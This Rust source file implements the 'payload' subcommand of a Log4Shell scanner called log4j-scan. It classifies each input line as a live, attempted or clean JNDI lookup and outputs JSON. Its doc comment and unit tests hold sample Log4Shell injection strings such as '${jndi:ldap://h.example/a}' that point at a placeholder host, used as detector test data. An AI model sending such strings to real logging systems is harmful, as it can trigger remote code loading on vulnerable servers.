//! `log4j-scan payload [--context C] [--jsonl] [--profiles] [FILE|-]`: one
//! input per line in, one JSON object per line out.
//!
//! Plain mode: every line is one input, inspected under `--context`
//! (default `raw`), and `id` is its line number. With `--jsonl` every
//! non-blank line is `{"id": <any>, "text": "...", "context": "..."}`;
//! `id` is echoed, `context` overrides `--context` for that line.
//!
//! Output, one object per input (`profiles` only with `--profiles`):
//!
//! ```text
//! {"id":2,"verdict":"live","jndi":"ldap://h.example/a","host":"h.example",
//!  "chain":["url"],"profile":"2.13-2.14","techniques":["url-encoded"],
//!  "span":[0,32],"reason":null,
//!  "profiles":[{"profile":"2.13-2.14","verdict":"live","jndi":"…","reason":null},…]}
//! ```
//!
//! `verdict` is `live`, `attempt` or `clean`; `span` is the byte range of the
//! payload in the input line; `reason` says why an `attempt` is one
//! (`no-network`, `broken-probe`, `double-encoded`, `depth-budget`,
//! `length-budget`, `step-budget`).
//!
//! Exit status: 0 when every input is clean, 1 when any is `live` or
//! `attempt`, 2 on a usage error or an input line that cannot be read (that
//! line gets `{"id", "error"}` and the others are still inspected).
use std::fs::File;
use std::io::{self, BufRead, BufReader, Write};

use scanner_core::lookup::{inspect, Context, Decoder, Inspection, Profile, ProfileOutcome, Reason, Technique, Verdict};
use serde::Serialize;
use serde_json::Value;

use crate::logs::Lines;

const USAGE: &str = "usage: log4j-scan payload [--context raw|url|json|html|basic-auth|any] [--jsonl] [--profiles] [FILE|-]";

#[derive(Serialize)]
struct Row<'a> {
    id: Value,
    verdict: Verdict,
    jndi: &'a Option<String>,
    host: &'a Option<String>,
    chain: &'a [Decoder],
    profile: Option<Profile>,
    techniques: &'a [Technique],
    span: Option<(usize, usize)>,
    reason: Option<Reason>,
    #[serde(skip_serializing_if = "Option::is_none")]
    profiles: Option<&'a [ProfileOutcome]>,
}

#[derive(Serialize)]
struct Failed {
    id: Value,
    error: String,
}

pub(crate) struct Options {
    context: Context,
    jsonl: bool,
    profiles: bool,
}

pub fn main(args: &[String]) -> u8 {
    let mut opts = Options { context: Context::Raw, jsonl: false, profiles: false };
    let mut input: Option<String> = None;
    let mut it = args.iter();
    while let Some(a) = it.next() {
        let ctx_name = if a == "--context" {
            match it.next() {
                Some(v) => Some(v.as_str()),
                None => return usage(),
            }
        } else {
            a.strip_prefix("--context=")
        };
        if let Some(name) = ctx_name {
            match Context::from_name(name) {
                Some(c) => opts.context = c,
                None => return usage(),
            }
            continue;
        }
        match a.as_str() {
            "--jsonl" => opts.jsonl = true,
            "--profiles" => opts.profiles = true,
            "-h" | "--help" => {
                println!("{USAGE}");
                return 0;
            }
            "-" => input = Some("-".into()),
            s if s.starts_with('-') => return usage(),
            s if input.is_none() => input = Some(s.to_string()),
            _ => return usage(),
        }
    }
    let path = input.unwrap_or_else(|| "-".into());
    let reader: Box<dyn BufRead> = if path == "-" {
        Box::new(BufReader::new(io::stdin()))
    } else {
        match File::open(&path) {
            Ok(f) => Box::new(BufReader::new(f)),
            Err(e) => {
                eprintln!("log4j-scan payload: {path}: {e}");
                return 2;
            }
        }
    };
    let stdout = io::stdout();
    let mut out = io::BufWriter::new(stdout.lock());
    match run(reader, &mut out, &opts).and_then(|c| out.flush().map(|_| c)) {
        Ok(code) => code,
        Err(e) if e.kind() == io::ErrorKind::BrokenPipe => 0,
        Err(e) => {
            eprintln!("log4j-scan payload: {e}");
            2
        }
    }
}

fn usage() -> u8 {
    eprintln!("{USAGE}");
    2
}

/// Inspect every input of `reader`, write one JSON line each, and return the
/// exit status.
pub(crate) fn run(reader: impl BufRead, out: &mut impl Write, opts: &Options) -> io::Result<u8> {
    let mut lines = Lines::new(reader);
    let (mut n, mut flagged, mut bad) = (0u64, false, false);
    while let Some(line) = lines.next_line()? {
        n += 1;
        let (id, text, context) = if opts.jsonl {
            if line.trim().is_empty() {
                continue;
            }
            match parse_jsonl(&line, opts.context) {
                Ok(t) => t,
                Err(error) => {
                    bad = true;
                    let id = serde_json::from_str::<Value>(&line).ok().and_then(|v| v.get("id").cloned()).unwrap_or(Value::from(n));
                    emit(out, &Failed { id, error })?;
                    continue;
                }
            }
        } else {
            (Value::from(n), line, opts.context)
        };
        let found: Inspection = inspect(&text, context);
        flagged |= found.verdict != Verdict::Clean;
        let row = Row {
            id,
            verdict: found.verdict,
            jndi: &found.jndi,
            host: &found.host,
            chain: &found.chain,
            profile: found.profile,
            techniques: &found.techniques,
            span: found.span,
            reason: found.reason,
            profiles: opts.profiles.then_some(&found.profiles[..]),
        };
        emit(out, &row)?;
    }
    Ok(if bad {
        2
    } else if flagged {
        1
    } else {
        0
    })
}

fn parse_jsonl(line: &str, default: Context) -> Result<(Value, String, Context), String> {
    let v: Value = serde_json::from_str(line).map_err(|e| format!("not JSON: {e}"))?;
    let obj = v.as_object().ok_or("not a JSON object")?;
    let text = obj.get("text").and_then(Value::as_str).ok_or("no string field \"text\"")?.to_string();
    let context = match obj.get("context") {
        None | Some(Value::Null) => default,
        Some(Value::String(s)) => Context::from_name(s).ok_or_else(|| format!("unknown context {s:?}"))?,
        Some(_) => return Err("\"context\" is not a string".into()),
    };
    let id = obj.get("id").cloned().unwrap_or(Value::Null);
    Ok((id, text, context))
}

fn emit(out: &mut impl Write, v: &impl Serialize) -> io::Result<()> {
    serde_json::to_writer(&mut *out, v).map_err(io::Error::other)?;
    writeln!(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lines(out: &[u8]) -> Vec<Value> {
        out.split(|&b| b == b'\n').filter(|l| !l.is_empty()).map(|l| serde_json::from_slice(l).unwrap()).collect()
    }

    #[test]
    fn plain_lines_numbered_and_exit_status() {
        let opts = Options { context: Context::Url, jsonl: false, profiles: false };
        let mut out = Vec::new();
        let code = run("hello\n%24%7Bjndi:ldap://h.example/a%7D\n".as_bytes(), &mut out, &opts).unwrap();
        assert_eq!(code, 1);
        let rows = lines(&out);
        assert_eq!(rows.len(), 2);
        assert_eq!(rows[0]["id"], 1);
        assert_eq!(rows[0]["verdict"], "clean");
        assert_eq!(rows[1]["id"], 2);
        assert_eq!(rows[1]["verdict"], "live");
        assert_eq!(rows[1]["jndi"], "ldap://h.example/a");
        assert_eq!(rows[1]["chain"], serde_json::json!(["url"]));
        assert_eq!(rows[1]["span"], serde_json::json!([0, 32]));
        assert!(rows[1].get("profiles").is_none());

        let mut out = Vec::new();
        assert_eq!(run("a\n${PORT:-8080}\n".as_bytes(), &mut out, &opts).unwrap(), 0);
    }

    #[test]
    fn jsonl_echoes_ids_and_contexts() {
        let opts = Options { context: Context::Raw, jsonl: true, profiles: true };
        let input = "{\"id\":\"req-7\",\"text\":\"\\\\u0024{jndi:dns://h.example/a}\",\"context\":\"json\"}\n\
                     \n\
                     {\"id\":[1,2],\"text\":\"plain\"}\n\
                     {\"id\":3}\n";
        let mut out = Vec::new();
        let code = run(input.as_bytes(), &mut out, &opts).unwrap();
        let rows = lines(&out);
        assert_eq!(rows.len(), 3);
        assert_eq!(rows[0]["id"], "req-7");
        assert_eq!(rows[0]["verdict"], "live");
        assert_eq!(rows[0]["host"], "h.example");
        assert!(rows[0]["profiles"].is_array());
        assert_eq!(rows[1]["id"], serde_json::json!([1, 2]));
        assert_eq!(rows[1]["verdict"], "clean");
        assert_eq!(rows[2]["id"], 3);
        assert!(rows[2]["error"].is_string());
        assert_eq!(code, 2);
    }
}
